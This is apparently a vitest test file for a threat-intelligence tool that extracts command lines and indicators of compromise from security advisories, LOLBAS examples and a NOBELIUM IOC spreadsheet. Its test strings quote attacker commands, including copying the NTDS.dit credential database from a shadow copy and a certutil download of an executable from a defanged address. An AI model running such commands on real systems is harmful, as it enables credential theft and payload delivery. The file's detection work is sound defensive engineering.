import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { describeShared, shared } from '../../../../test/shared-data.js';
import { COMMAND_START, COMMAND_START_ANY_CASE, commandNameSpans } from './command-line.js';
import { extractIndicators } from './extract-indicators.js';

const commands = (text: string) => extractIndicators(text).commandline.map((c) => c.value);

describe('command lines', () => {
  it('reads advisory command lines with quoted arguments, pipes and redirection', () => {
    expect(
      commands(
        [
          'cmd.exe /C "wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename"',
          "Get-EventLog security -instanceid 4624 -after [year-month-date] | fl * | Out-File 'C:\\users\\public\\documents\\user.dat'",
          'copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\NTDS.dit C:\\Windows\\Temp',
          'ldifde.exe -f c:\\windows\\temp\\[filename].txt -p subtree',
          'ATBroker.exe /start malware',
        ].join('\n'),
      ),
    ).toEqual([
      'cmd.exe /C "wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename"',
      "Get-EventLog security -instanceid 4624 -after [year-month-date] | fl * | Out-File 'C:\\users\\public\\documents\\user.dat'",
      'copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\NTDS.dit C:\\Windows\\Temp',
      'ldifde.exe -f c:\\windows\\temp\\[filename].txt -p subtree',
      'ATBroker.exe /start malware',
    ]);
  });

  it('ends an inline command at prose: stop words, adverbs, capitalised words, sentence ends', () => {
    expect(
      commands(
        'They ran whoami /all to list privileges. Then nltest /domain_trusts was used remotely. ' +
          'Finally certutil -urlcache -split -f hxxp://1.2.3[.]4/a.exe a.exe, which dropped the payload.',
      ),
    ).toEqual([
      'whoami /all',
      'nltest /domain_trusts',
      'certutil -urlcache -split -f hxxp://1.2.3[.]4/a.exe a.exe',
    ]);
  });

  it('does not read prose that names a tool as a command', () => {
    expect(
      commands(
        [
          'The actors used ntdsutil and PowerShell to dump credentials.',
          'Set up MFA: everywhere, and reg keys should be audited.',
          'The net effect is that cmd is a shell; net use is common.',
          'Note: the Get-EventLog cmdlet lists events.',
          'We get-together at noon.',
        ].join('\n'),
      ),
    ).toEqual([]);
  });
});

describeShared('command lines from the LOLBAS project', () => {
  it('recognises most single-line LOLBAS example commands, whole', () => {
    const root = shared('lolbas', 'yml');
    const files: string[] = [];
    const walk = (dir: string): void => {
      for (const f of readdirSync(dir)) {
        const p = join(dir, f);
        if (statSync(p).isDirectory()) walk(p);
        else if (p.endsWith('.yml')) files.push(p);
      }
    };
    walk(root);
    let total = 0;
    let whole = 0;
    for (const f of files) {
      const doc = parse(readFileSync(f, 'utf8')) as { Commands?: { Command: string }[] };
      for (const c of doc.Commands ?? []) {
        const cmd = String(c.Command).trim();
        if (cmd.includes('\n')) continue;
        total++;
        if (commands(`The attacker ran the following:\n${cmd}\n`)[0] === cmd) whole++;
      }
    }
    expect(total).toBeGreaterThan(400);
    expect(whole / total).toBeGreaterThan(0.75);
  });
});

describeShared('IOC tables: the Microsoft MSTIC CSVs', () => {
  it('finds every domain, address, hash and URL of the CSV rows, as table rows', () => {
    const file = shared('sample-iocs', 'microsoft-mstic', 'May21NOBELIUMIoCs.csv');
    const text = readFileSync(file, 'utf8');
    const set = extractIndicators(text);
    const found = new Set(
      Object.values(set)
        .flat()
        .map((i) => i.value.toLowerCase()),
    );
    const rows = text.split(/\r?\n/).slice(1).filter(Boolean);
    const missed = rows
      .map((r) => (r.split(',')[2] ?? '').trim())
      .filter((v) => !v.includes('<') && !found.has(v.toLowerCase()));
    expect(missed).toEqual([]);
    expect(
      new Set(
        Object.values(set)
          .flat()
          .map((i) => i.context),
      ),
    ).toEqual(new Set(['table']));
  });
});

describe('commandNameSpans', () => {
  const byRegex = (text: string, re = COMMAND_START): number[] => {
    const out: number[] = [];
    re.lastIndex = 0;
    for (let m = re.exec(text); m !== null; m = re.exec(text)) out.push(m.index, m.index + m[0].length);
    return out;
  };

  it('finds exactly what COMMAND_START finds, on edge cases', () => {
    const mixed = [
      'powershell -c x; cmd.exe /c y; cmd.exec z; x-cmd /c; _cmd /c; .cmd /c; /cmd /c; \\cmd /c; -cmd /c',
      'get-process\tx get-a x get-ab x get-process-x y get-process2 y invoke-webrequest.exe x getx-ab y',
      'impacket-secretsdump a; mega-put b; 7z a; 7za x; rundll32.exe, x; ntdsutil', // name at the very end
      `ÿcmd /c; écmd /c; cmd\u00a0/c; get-${'a'.repeat(40)} x get-${'a'.repeat(41)} y`,
      'PowerShell.EXE -c; Get-Process x; XCMD /c; CMD /C; aCmd /c; Cmd.exe /c',
    ].join('\n');
    const text = mixed.toLowerCase();
    const spans = commandNameSpans(text);
    expect(spans.length).toBeGreaterThan(20);
    expect(spans).toEqual(byRegex(text));
    expect(commandNameSpans(mixed)).toEqual(byRegex(mixed, COMMAND_START_ANY_CASE));
    expect(commandNameSpans(mixed)).toEqual(spans);
  });

  describeShared('on real text', () => {
    it('finds exactly what COMMAND_START finds over the reports and LOLBAS', () => {
      const texts: string[] = [];
      for (const dir of [shared('reports'), join(shared('lolbas'), 'yml', 'OSBinaries')]) {
        for (const f of readdirSync(dir))
          if (/\.(?:txt|yml)$/.test(f)) texts.push(readFileSync(join(dir, f), 'utf8'));
      }
      let found = 0;
      for (const t of texts) {
        const lower = t.toLowerCase();
        const spans = commandNameSpans(lower);
        found += spans.length;
        expect(spans).toEqual(byRegex(lower));
        expect(commandNameSpans(t)).toEqual(byRegex(t, COMMAND_START_ANY_CASE));
      }
      expect(found).toBeGreaterThan(100);
    });
  });
});
